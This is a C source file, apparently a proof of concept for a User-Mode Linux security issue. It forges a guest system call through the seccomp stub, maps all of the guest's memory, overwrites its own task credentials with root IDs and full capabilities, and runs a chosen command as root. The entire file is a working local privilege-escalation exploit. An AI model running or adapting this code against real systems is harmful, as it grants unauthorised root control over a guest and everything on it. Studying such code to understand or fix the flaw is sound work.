/* `becomes_root COMMAND ...`: a student's program that makes itself root of a User-Mode Linux, and runs a command then.
 *
 * With `seccomp=on` a program's system calls come to the kernel from a stub in the program's own memory, through a frame
 * that the program may write. Only the stub may call this machine's kernel, to map the guest's memory, but anybody may
 * jump there (Linux, arch/um/kernel/skas/stub.c, "Known security issues"). So this program fakes a system call that needs
 * memory, takes the file of all the guest's memory that the kernel hands out for it, maps that, and overwrites the
 * credentials of its own task. With `seccomp=off` the first step ends it by SIGSEGV. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <ucontext.h>
#include <unistd.h>

#define PAGE 4096UL
#define STUB 0x7fffffffc000UL      /* its code; two pages of data follow, the second one with the frame */
#define MEMORY_AT 0x100000000000UL /* free in the program and unknown to the guest's kernel */
#define MEMORY_BYTES (1UL << 30)
#define ALL_CAPABILITIES 0x1ffffffffffUL
enum { WAIT = 0, WAKE = 1, IN_CHILD = 0, IN_KERNEL = 1, MAP = 1 };

struct pending {
    unsigned long address, length, offset;
    int file, protection, call;
};

/* As in arch/um/include/shared/skas/stub-data.h. */
struct stub_data {
    long error;
    int pending_count;
    struct pending pending[(PAGE - 128) / sizeof(struct pending)] __attribute__((aligned(16)));
    short restart_wait;
    unsigned futex;
    int signal;
    uint16_t info_at, context_at;
    long architecture[3];
    unsigned char frame[PAGE] __attribute__((aligned(4096)));
};

struct credentials {
    uint32_t ids[8], securebits;
    uint64_t capabilities[5];
};

static volatile struct stub_data *const data = (void *)(STUB + PAGE);
static const unsigned char *gadget;

/* A system call of this machine's kernel, by an instruction in the stub. */
static long call(long number, long a, long b, long c, long d, long e, long f)
{
    register long r10 asm("r10") = d, r8 asm("r8") = e, r9 asm("r9") = f;
    asm volatile("call *%[gadget]"
                 : "+a"(number)
                 : [gadget] "r"(gadget), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                 : "rcx", "r11", "memory");
    return number;
}

/* Has the guest's kernel do a system call as if this program had made it, but stays here when it sends its answer. */
static void fake(long number, long length)
{
    getpid(); /* leaves a whole frame */
    greg_t *registers = ((mcontext_t *)(data->frame + data->context_at))->gregs;
    ((siginfo_t *)(data->frame + data->info_at))->si_syscall = (int)number;
    registers[REG_RAX] = number;
    registers[REG_RDI] = registers[REG_R9] = 0;
    registers[REG_RSI] = length;
    registers[REG_RDX] = PROT_READ | PROT_WRITE;
    registers[REG_R10] = MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE;
    registers[REG_R8] = -1;
    data->signal = SIGSYS;
    data->futex = IN_KERNEL;
    call(SYS_futex, (long)&data->futex, WAKE, 1, 0, 0, 0);
    while (data->futex == IN_KERNEL)
        call(SYS_futex, (long)&data->futex, WAIT, IN_KERNEL, 0, 0, 0);
}

/* Returns a file of the guest's memory, and maps what the kernel wanted mapped. */
static int memory_file(void)
{
    char byte, control[CMSG_SPACE(sizeof(int) * 64)] = {0};
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    if (call(SYS_recvmsg, 0, (long)&message, 0, 0, 0, 0) != 1 || message.msg_controllen < CMSG_LEN(sizeof(int)))
        return -1;
    int *files = (int *)CMSG_DATA((struct cmsghdr *)control);
    for (int i = 0; i < data->pending_count; i++) {
        struct pending each = data->pending[i];
        if (each.call == MAP)
            call(SYS_mmap, (long)each.address, (long)each.length, each.protection, MAP_SHARED | MAP_FIXED,
                 files[each.file], (long)each.offset);
        else
            call(SYS_munmap, (long)each.address, (long)each.length, 0, 0, 0, 0);
    }
    data->error = data->pending_count = 0;
    return files[0];
}

static void become_root(char *memory)
{
    uint32_t own[8];
    for (int i = 0; i < 8; i++)
        own[i] = getuid();
    for (char *at = memory; at < memory + MEMORY_BYTES; at += 8) {
        struct credentials *found = (struct credentials *)at;
        if (memcmp(found->ids, own, sizeof own) != 0)
            continue;
        memset(found->ids, 0, sizeof own);
        found->securebits = 0;
        for (int i = 1; i <= 3; i++) /* permitted, effective, bounding set */
            found->capabilities[i] = ALL_CAPABILITIES;
        if (geteuid() == 0)
            return;
    }
}

int main(int count, char **words)
{
    gadget = memmem((void *)STUB, PAGE, "\x0f\x05\xc3", 3); /* syscall; ret */
    if (count < 2 || gadget == NULL)
        return 2;
    puts("there is a stub");
    fflush(stdout);
    fake(SYS_mmap, PAGE);
    int file = memory_file();
    if (file < 0)
        return 3;
    if (call(SYS_mmap, MEMORY_AT, MEMORY_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, file, 0) != MEMORY_AT)
        return 4;
    become_root((char *)MEMORY_AT);
    if (geteuid() != 0)
        return 5;
    execvp(words[1], words + 1);
    return 6;
}
